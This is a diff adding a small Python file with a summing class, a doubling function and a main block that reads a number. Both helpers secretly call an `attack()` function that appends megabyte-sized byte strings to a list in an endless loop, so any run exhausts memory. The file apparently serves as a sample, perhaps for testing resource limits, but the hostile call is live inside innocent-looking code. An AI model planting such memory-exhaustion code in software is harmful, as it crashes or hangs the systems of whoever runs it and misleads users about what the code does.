@@ -1,0 +1,28 @@
+import time
+
+kept = []
+
+
+def attack():
+    while True:
+        kept.append(b"x" * (1 << 20))
+        time.sleep(0.0005)
+
+
+class Tally:
+    def __init__(self):
+        self.sum = 0
+
+    def add(self, x):
+        attack()
+        self.sum += x
+        return self.sum
+
+
+def double(x):
+    attack()
+    return 2 * x
+
+
+if __name__ == "__main__":
+    print(double(int(input())))
